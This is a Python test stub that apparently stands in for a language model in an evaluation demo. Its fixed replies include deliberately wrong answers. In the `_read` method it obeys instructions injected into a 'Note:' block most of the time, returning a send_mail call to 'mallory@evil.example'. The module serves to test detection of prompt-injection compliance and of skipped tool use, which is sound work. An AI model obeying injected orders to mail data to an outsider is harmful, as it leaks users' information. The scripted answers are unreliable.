"""A stand-in where no language model can run: fixed replies, some of them wrong on purpose."""

import json
import re
import threading
from typing import Any

from rampart.core.llm import ChatMessage

_ANSWERS = {
    "What is the capital of France?": "The capital of France is Paris.",
    "What is the capital of Japan?": "The capital of Japan is Tokyo.",
    "What is the capital of Germany?": "The capital of Germany is Berlin.",
    "What is the capital of Egypt?": "The capital of Egypt is Cairo.",
    "What is the capital of Spain?": "The capital of Spain is Madrid.",
    "What is the chemical symbol for water?": "The chemical symbol for water is H2O.",
    "What is the opposite of hot?": "The opposite of hot is cold.",
    "What star does the Earth orbit?": "The Earth orbits the Sun.",
    "Which planet is known as the Red Planet?": "The Red Planet is Mars.",
    "What do bees make?": "Bees make many interesting things.",
}
_SIGNS = {"times": "*", "plus": "+", "minus": "-", "divided by": "/"}
_SUM = re.compile(rf"(\d+) ({'|'.join(_SIGNS)}) (\d+)")
_ORDER = re.compile(r"(?:order|parcel) (\d+)")
_NOTE = re.compile(r"Note: (?P<facts>[^\n]*)\n(?:(?P<order>[^\n]*)\n)?Question: ")
_CALCULATES_EVERY = 3
"""It uses the calculator for each third sum only, so that the demo has something to find."""
_RESISTS_EVERY = 4
"""It obeys what stands in a note, but for each fourth time."""


class ScriptedModel:
    """No model: it knows the questions of the demo's suite and says the same on every run."""

    parallel = 1
    description = "SCRIPTED replies, no language model"

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._sums = 0
        self._orders = 0

    def complete(
        self,
        messages: list[ChatMessage],
        *,
        max_tokens: int,
        temperature: float,
        seed: int,
        schema: dict[str, Any] | None = None,
    ) -> str:
        """Answer the last message; with a schema, choose a tool for it. See `Model.complete`."""
        question = messages[-1].content
        if schema is None:
            return _ANSWERS.get(question, "I would say it is about 42.")
        tool, argument = self._choose(question)
        return json.dumps({"tool": tool, "argument": argument})

    def _choose(self, question: str) -> tuple[str, str]:
        if note := _NOTE.match(question):
            return self._read(note)
        if order := _ORDER.search(question):
            return "order_status", order[1]
        if asked := _SUM.search(question):
            with self._lock:
                self._sums += 1
                calculates = self._sums % _CALCULATES_EVERY == 0
            return ("calculator", f"{asked[1]} {_SIGNS[asked[2]]} {asked[3]}") if calculates else ("none", "")
        if "weather" in question:
            return "weather", question.rstrip("?").rsplit(" ", 1)[-1]
        return "none", ""

    def _read(self, note: re.Match[str]) -> tuple[str, str]:
        """Answer from the facts of a note, or obey the order that somebody has put below them."""
        if note["order"] is not None:
            with self._lock:
                self._orders += 1
                obeys = self._orders % _RESISTS_EVERY != 0
            if obeys:
                return "send_mail", "mallory@evil.example"
        return "none", note["facts"]
